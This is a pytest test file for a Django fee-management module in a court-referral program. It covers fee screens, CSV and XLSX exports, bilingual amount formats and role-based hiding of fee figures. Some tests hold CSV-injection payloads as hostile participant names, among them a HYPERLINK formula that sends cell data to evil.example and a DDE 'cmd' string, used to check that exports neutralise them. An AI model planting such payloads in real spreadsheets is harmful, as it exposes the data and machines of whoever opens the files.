"""The manager's fees screen and its CSV exports, amounts in Canadian formats both ways, a
number of queries that does not grow with the referrals; no fee figure anywhere a facilitator,
a partner-contact worker or the court can see; and a fee that holds completion back."""

import csv
import io
import re
from datetime import date, datetime
from decimal import Decimal
from html import unescape
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation
from django.utils.translation import gettext
from pypdf import PdfReader

from fees import services
from fees.models import FeeAccount, FeeAssessment, FeeBand, FeeProposal, LedgerEntry
from ipv.audit.models import AuditEvent
from referrals.models import Referral
from sessions_app.models import Certificate
from sessions_app.services.documents import court_report_issue
from tests.conftest import make_referral
from tests.referrals.test_queue import bulk_referrals
from tests.sessions_app.conftest import placed, sessions, status_of, take

pytestmark = pytest.mark.django_db

NOW = datetime(2026, 11, 24, 10, 0, tzinfo=ZoneInfo("America/Toronto"))
FEES = "/{}/a/riviere/fees/"


@pytest.fixture(autouse=True)
def clock():
    with time_machine.travel(NOW, tick=False) as traveller:
        yield traveller


def with_fee(world, referral, amount, paid=None):
    """`referral` assessed on the scale, `amount` agreed, and `paid` taken in cash."""
    services.assessment_create(
        referral=referral,
        by=world["intake"],
        household_income=Decimal("45000"),
        household_size=2,
        employment="full_time",
    )
    reason = "Agreed with the participant." if Decimal(amount) != 350 else ""
    proposal = services.proposal_create(
        referral=referral, by=world["intake"], amount=Decimal(amount), reason=reason
    )
    if proposal.status == "awaiting":
        services.proposal_decide(proposal=proposal, by=world["manager"], approve=True)
    if paid:
        services.payment_record(
            referral=referral, by=world["intake"], amount=Decimal(paid), method="cash"
        )
    return Referral.objects.get(pk=referral.pk)


def paul(world, amount="1234.50", paid=None, language="en"):
    referral = make_referral(
        world.agency,
        world["intake"],
        world.court,
        person={"legal_name": "Paul Girard", "language": language},
        court_file_number="4811-998-26-00077",
    )
    return with_fee(world, referral, amount, paid)


def words(response) -> str:
    """The page's text without tags; ASCII blanks made one space, no-break spaces kept."""
    return re.sub(r"[ \t\r\n]+", " ", unescape(re.sub(r"<[^>]+>", " ", response.content.decode())))


def rows(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())  # Excel reads the accents right
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_outstanding_balances_come_largest_first_beside_the_approvals_waiting(client, world):
    big = paul(world, paid="34.50")
    client.force_login(world["manager"])
    response = client.get(FEES.format("en"))
    assert [(a.referral, a.balance) for a in response.context["page"]] == [
        (big, Decimal("1200.00")),
        (world.referral, Decimal("250.00")),
    ]
    assert list(response.context["approvals"]) == [world.reduction]
    assert "Jean Marc Tremblay — $25.00 instead of $350.00 · Isabelle Roy · 2026-11-24" in words(
        response
    )


def recorded_on(clock, day, call, **arguments):
    """What `call` writes, written on `day` (the clock back to NOW after)."""
    clock.move_to(datetime(day.year, day.month, day.day, 12, 0, tzinfo=NOW.tzinfo))
    try:
        return call(**arguments)
    finally:
        clock.move_to(NOW)


def early(world, received_on):
    """A referral received on `received_on`, its fee ($350) agreed then."""
    referral = make_referral(
        world.agency,
        world["intake"],
        world.court,
        person={"legal_name": "Luc Gagnon"},
        court_file_number="4811-998-25-00088",
        order_date=received_on,
        received_on=received_on,
        complete_by=date(2027, 6, 1),
    )
    return with_fee(world, referral, "350")


def test_revenue_and_waivers_by_month_and_as_csv(client, clock, world):
    pay = {"referral": world.referral, "by": world["intake"]}
    october = recorded_on(
        clock,
        date(2026, 10, 15),
        services.payment_record,
        referral=early(world, date(2026, 10, 1)),
        by=world["intake"],
        amount=Decimal(60),
        method="cash",
    )
    waive = {**pay, "by": world["manager"], "method": "waiver", "note": "Lost his job."}
    services.payment_record(**waive, amount=Decimal(40))
    waiver = services.payment_record(**waive, amount=Decimal(15))
    services.payment_void(entry=waiver, by=world["manager"], note="Not approved.")
    typo = services.payment_record(**pay, amount=Decimal(30), method="debit")
    services.payment_void(entry=typo, by=world["intake"], note="Typed twice.")
    services.refund_record(entry=october, by=world["intake"], amount=Decimal(10), method="cash")

    client.force_login(world["manager"])
    months = client.get(FEES.format("en")).context["months"]
    # November: 100 + 30 − 30 (void) − 10 (refund of October's payment); the waiver is no revenue.
    assert months == [
        {"month": date(2026, 11, 1), "revenue": Decimal("90.00"), "waived": Decimal("40.00")},
        {"month": date(2026, 10, 1), "revenue": Decimal("60.00"), "waived": Decimal("0")},
    ]
    assert "November 2026 $90.00 $40.00" in words(client.get(FEES.format("en")))
    assert FeeAccount.objects.get(referral=world.referral).balance == Decimal("210.00")

    exported = client.get("/en/a/riviere/fees/export/monthly.csv")
    assert exported["Content-Disposition"] == 'attachment; filename="fees-monthly.csv"'
    assert rows(exported) == [
        ["Month", "Revenue", "Waived"],
        ["2026-11", "90.00", "40.00"],
        ["2026-10", "60.00", "0"],
    ]


def test_the_outstanding_export_lists_what_is_owed_and_is_audited(client, world):
    big = paul(world, paid="34.50")
    services.refund_record(
        entry=big.ledger.get(), by=world["intake"], amount=Decimal("4.50"), method="cash"
    )
    client.force_login(world["manager"])
    exported = client.get("/en/a/riviere/fees/export/outstanding.csv")
    assert rows(exported) == [
        ["Referral", "Participant", "Agreed", "Paid", "Balance"],
        [big.number, "Paul Girard", "1234.50", "30.00", "1204.50"],
        [world.referral.number, "Jean-Marc Tremblay", "350.00", "100.00", "250.00"],
    ]
    event = AuditEvent.objects.get(action=AuditEvent.Action.RECORD_EXPORTED)
    assert (event.actor, event.agency, event.target_label) == (
        world["manager"],
        world.agency,
        "fees-outstanding.csv",
    )
    assert event.path == "/en/a/riviere/fees/export/outstanding.csv"


def test_the_months_are_the_last_twelve(client, clock, world):
    referral = early(world, date(2025, 11, 10))
    pay = {"referral": referral, "by": world["intake"], "method": "cash"}
    recorded_on(clock, date(2025, 11, 20), services.payment_record, **pay, amount=Decimal(20))
    recorded_on(clock, date(2025, 12, 1), services.payment_record, **pay, amount=Decimal(30))
    client.force_login(world["manager"])
    months = client.get(FEES.format("en")).context["months"]
    assert [row["month"] for row in months] == [date(2026, 11, 1), date(2025, 12, 1)]


def test_a_name_is_never_a_formula_in_the_export(client, world):
    participant = world.referral.participant
    participant.legal_name = '=HYPERLINK("http://evil.example/?"&A1,"Jean-Marc")'
    participant.save(update_fields=["legal_name"])
    client.force_login(world["manager"])
    [_header, row] = rows(client.get("/en/a/riviere/fees/export/outstanding.csv"))
    assert not row[1].startswith(("=", "+", "-", "@"))


HOSTILE_NAMES = [
    "Daniel;=1+1;Wright",
    "Daniel,=1+1,Wright",
    "Daniel\t+cmd|' /C calc'!A0",
    "Daniel|@SUM(A1:A9)|Wright",
    'Daniel "=1+1" Wright',
    "Daniel; -2+3",
    "Daniel;＝1+1",
]
TRIGGERS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("name", HOSTILE_NAMES)
@pytest.mark.parametrize("separator", [",", ";", "\t", "|", " "])
def test_no_cell_of_the_csv_starts_a_formula_whichever_separator_splits_it(
    client, world, name, separator
):
    participant = world.referral.participant
    participant.legal_name = name
    participant.save(update_fields=["legal_name"])
    client.force_login(world["manager"])
    content = client.get("/en/a/riviere/fees/export/outstanding.csv").content.decode("utf-8-sig")
    # A spreadsheet that ignores the quotes and splits on `separator`.
    cells = [cell.strip(' "') for line in content.splitlines() for cell in line.split(separator)]
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    # The control: the name is there, whole, for a reader that honours the quotes.
    [_header, row] = rows(client.get("/en/a/riviere/fees/export/outstanding.csv"))
    assert row[1].replace("'", "") == name.replace("'", "")


def test_a_hyphenated_name_is_left_as_it_is(client, world):
    client.force_login(world["manager"])
    [_header, row] = rows(client.get("/en/a/riviere/fees/export/outstanding.csv"))
    assert row[1] == "Jean-Marc Tremblay"


def workbook(response):
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def test_the_outstanding_balances_as_xlsx_have_real_numbers_and_text_that_stays_text(client, world):
    participant = world.referral.participant
    participant.legal_name = "=1+1;Jean-Marc"
    participant.save(update_fields=["legal_name"])
    big = paul(world, paid="34.50")
    client.force_login(world["manager"])
    response = client.get("/en/a/riviere/fees/export/outstanding.xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="fees-outstanding.xlsx"'
    sheet = workbook(response)
    assert sheet.title == "Outstanding balances"
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values == [
        ["Referral", "Participant", "Agreed", "Paid", "Balance"],
        [big.number, "Paul Girard", 1234.5, 34.5, 1200],
        [world.referral.number, "=1+1;Jean-Marc", 350, 100, 250],
    ]
    name, agreed = sheet["B3"], sheet["C3"]
    assert (name.data_type, agreed.data_type, agreed.number_format) == ("s", "n", "#,##0.00")
    # Marked as text to type over too: editing the cell does not make it a formula.
    assert name.quotePrefix and not sheet["B2"].quotePrefix
    event = AuditEvent.objects.get(action=AuditEvent.Action.RECORD_EXPORTED)
    assert event.target_label == "fees-outstanding.xlsx"


def test_the_months_as_xlsx_are_dates(client, world):
    services.payment_record(
        referral=world.referral, by=world["intake"], amount=Decimal(60), method="cash"
    )
    client.force_login(world["manager"])
    sheet = workbook(client.get("/en/a/riviere/fees/export/monthly.xlsx"))
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["Month", "Revenue", "Waived"],
        [datetime(2026, 11, 1), 160, 0],
    ]
    assert (sheet["A2"].is_date, sheet["A2"].number_format) == (True, "yyyy-mm")


def test_only_a_manager_downloads_the_xlsx(client, world):
    client.force_login(world["intake"])
    assert client.get("/en/a/riviere/fees/export/outstanding.xlsx").status_code == 403
    client.force_login(world["manager"])
    assert client.get("/en/a/riviere/fees/export/outstanding.xlsx").status_code == 200
    assert client.get("/en/a/riviere/fees/export/nothing.xlsx").status_code == 404


def bulk_fees(world, count, *, start):
    """`count` referrals with a fee agreed, a payment in one of the last twelve months, and one
    in ten a reduction waiting: straight into the tables (the screen only reads)."""
    bulk_referrals(world.agency, world.court, world["intake"], count, start=start)
    referrals = list(
        Referral.objects.filter(
            court_file_number__in=[f"B-{start + n:06d}" for n in range(count)]
        ).order_by("pk")
    )
    band = FeeBand.objects.get(schedule__agency=world.agency, household_size=2, income_max=None)
    assessments = FeeAssessment.objects.bulk_create(
        FeeAssessment(
            agency=world.agency,
            referral=referral,
            household_income=Decimal("45000"),
            household_size=2,
            employment="full_time",
            schedule=band.schedule,
            band=band,
            standard_fee=band.fee,
            assessed_by=world["intake"],
        )
        for referral in referrals
    )
    proposal = {"agency": world.agency, "proposed_by": world["intake"]}
    FeeProposal.objects.bulk_create(
        [
            FeeProposal(referral=a.referral, assessment=a, amount=350, status="agreed", **proposal)
            for a in assessments
        ]
        + [
            FeeProposal(referral=a.referral, assessment=a, amount=50, status="awaiting", **proposal)
            for a in assessments[::10]
        ]
    )
    FeeAccount.objects.bulk_create(
        FeeAccount(
            agency=world.agency,
            referral=referral,
            agreed=350,
            paid=n % 300,
            balance=350 - n % 300,
        )
        for n, referral in enumerate(referrals)
    )
    LedgerEntry.objects.bulk_create(
        LedgerEntry(
            agency=world.agency,
            referral=referral,
            kind="payment",
            amount=n % 300 or 1,
            method="waiver" if n % 7 == 0 else "cash",
            received_on=date(2026, 11 - n % 11, 1),
            receipt_number=10_000 + start + n,
            recorded_by=world["intake"],
            balance_after=0,
        )
        for n, referral in enumerate(referrals)
    )


def queries(client, url) -> list[str]:
    client.get(url)  # the first request of a session records the device: not the page's cost
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
    assert response.status_code == 200
    return [query["sql"] for query in captured.captured_queries]


def test_the_screen_runs_the_same_queries_for_ten_or_a_thousand_referrals(client, world):
    client.force_login(world["manager"])
    urls = [FEES.format("en"), FEES.format("en") + "?page=2", "/fr/a/riviere/fees/"]
    bulk_fees(world, 10, start=0)
    few = {url: queries(client, url) for url in urls}
    bulk_fees(world, 990, start=10)
    page = client.get(FEES.format("en"))
    assert page.context["page"].paginator.count == 1001
    assert (len(page.context["approvals"]), page.context["approvals_count"]) == (20, 101)
    for url in urls:
        many = queries(client, url)
        assert len(many) == len(few[url]), url + "\n" + "\n".join(many)


def test_amounts_are_written_the_canadian_way_in_each_language(client, world):
    referral = paul(world, paid="0.50")
    client.force_login(world["manager"])
    english = words(client.get(FEES.format("en")))
    assert "Paul Girard $1,234.50 $1,234.00" in english
    french = words(client.get(FEES.format("fr")))
    assert "Paul Girard 1\xa0234,50\xa0$ 1\xa0234,00\xa0$" in french
    fee_page = words(client.get(f"/fr/a/riviere/referrals/{referral.pk}/fees/"))
    assert "1\xa0234,50\xa0$" in fee_page
    assert "1,234.50" not in fee_page


@pytest.mark.parametrize("typed", ["1 234,50", "1,234.50", "$1,234.50", "1\u202f234,50\xa0$"])
def test_an_amount_is_read_as_typed_the_french_or_the_english_way(client, world, typed):
    referral = paul(world, amount="350")
    client.force_login(world["intake"])
    response = client.post(
        f"/fr/a/riviere/referrals/{referral.pk}/fees/propose/",
        {"amount": typed, "reason": "Offert par la personne."},
    )
    assert response.status_code == 302
    # Above the scale: it waits for a manager's approval.
    proposal = FeeProposal.objects.filter(referral=referral).latest("pk")
    assert (proposal.amount, proposal.status) == (Decimal("1234.50"), "awaiting")


UNCLEAR = "Enter an amount such as 1 234,50 or 1,234.50."


@pytest.mark.parametrize(
    ("language", "typed", "message"),
    [
        ("en", "12.345", "Ensure that there are no more than 2 decimal places."),
        ("fr", "12.345", "Assurez-vous qu’il n’y a pas plus de 2 chiffres après la virgule."),
        ("en", "abc", UNCLEAR),
        ("fr", "abc", None),  # the French catalog's words for UNCLEAR
    ],
)
def test_an_unclear_amount_is_refused_in_the_pages_language(
    client, world, language, typed, message
):
    if message is None:
        with translation.override(language):
            message = gettext(UNCLEAR)
        assert message != UNCLEAR, "missing from the French catalog"
    referral = paul(world, amount="350")
    client.force_login(world["intake"])
    url = f"/{language}/a/riviere/referrals/{referral.pk}/fees/propose/"
    response = client.post(url, {"amount": typed})
    assert response.status_code == 400
    assert response.context["form"].errors["amount"] == [message]
    assert FeeAccount.objects.get(referral=referral).agreed == Decimal("350.00")


FIGURES = re.compile(r"987[.,\s]65|234[.,\s]56|753[.,\s]09|\$\s?987|987\s?\$")


def test_no_fee_figure_reaches_a_facilitator_a_partner_worker_or_the_court(clock, client, world):
    referral = placed(world, name="Marc-André Poirier")
    with_fee(world, referral, "987.65", paid="234.56")
    to_come = sessions(world.group)[:12]
    for session in to_come[:2]:
        take(clock, world, session, referral)
    report = court_report_issue(referral=referral, kind="progress", by=world["intake"])
    roster = f"/en/a/riviere/sessions/{to_come[1].pk}/"
    seen = {}
    for person, urls in [
        ("facilitator", ["/en/a/riviere/", "/en/a/riviere/groups/", roster]),
        ("facilitator", [f"/en/a/riviere/groups/{world.group.pk}/", "/fr" + roster[3:]]),
        ("partner_contact", ["/en/a/riviere/", "/fr/a/riviere/"]),
        ("liaison", ["/en/court/", f"/en/court/referrals/{referral.pk}/", "/fr/court/"]),
    ]:
        client.force_login(world[person])
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            seen[person, url] = response.content.decode()
    assert "Marc-André Poirier" in seen["facilitator", roster]
    assert "Marc-André Poirier" in seen["liaison", f"/en/court/referrals/{referral.pk}/"]

    for session in to_come[2:]:
        take(clock, world, session, referral)
    assert status_of(referral) == "completed"
    client.force_login(world["liaison"])
    for url in (
        f"/en/court/referrals/{referral.pk}/certificate/",
        f"/en/court/referrals/{referral.pk}/reports/{report.pk}/",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        pdf = PdfReader(io.BytesIO(response.content))
        seen["liaison", url] = " ".join(page.extract_text() for page in pdf.pages)
    assert (
        "Marc-André Poirier" in seen["liaison", f"/en/court/referrals/{referral.pk}/certificate/"]
    )

    # The figures are there, where they belong, for the intake worker.
    client.force_login(world["intake"])
    assert FIGURES.search(
        client.get(f"/en/a/riviere/referrals/{referral.pk}/fees/").content.decode()
    )
    leaks = {key: FIGURES.findall(text) for key, text in seen.items() if FIGURES.search(text)}
    assert leaks == {}


def test_where_the_fee_holds_completion_back_the_last_payment_completes(
    clock, client, world, django_capture_on_commit_callbacks
):
    world.agency.fees_hold_completion = True
    world.agency.save(update_fields=["fees_hold_completion"])
    referral = with_fee(world, placed(world, name="Marc-André Poirier"), "350", paid="100")
    for session in sessions(world.group)[:12]:
        assert take(clock, world, session, referral) == {}
    assert status_of(referral) == "enrolled"
    assert not Certificate.objects.filter(referral=referral).exists()
    client.force_login(world["intake"])
    detail = words(client.get(f"/en/a/riviere/referrals/{referral.pk}/"))
    held = "The twelve modules are attended: in this agency, the program completes once the fee"
    assert f"{held} is paid." in detail
    # The court learns that the modules are done, never that a fee is owed.
    client.force_login(world["liaison"])
    court = words(client.get(f"/en/court/referrals/{referral.pk}/"))
    assert "The twelve modules are attended: the agency will confirm the completion." in court
    assert "fee" not in court.lower()

    pay = {"referral": referral, "by": world["intake"], "method": "cash"}
    services.payment_record(**pay, amount=Decimal("200"))
    assert status_of(referral) == "enrolled"
    with django_capture_on_commit_callbacks(execute=True):
        services.payment_record(**pay, amount=Decimal("50"))
        # The ledger's transaction records the payment; the completion engine reads the
        # "fee paid in full" milestone once it is committed.
        assert status_of(referral) == "enrolled"
    assert status_of(referral) == "completed"
    certificate = Certificate.objects.get(referral=referral)
    assert certificate.details["completed_on"] == "2027-02-09"
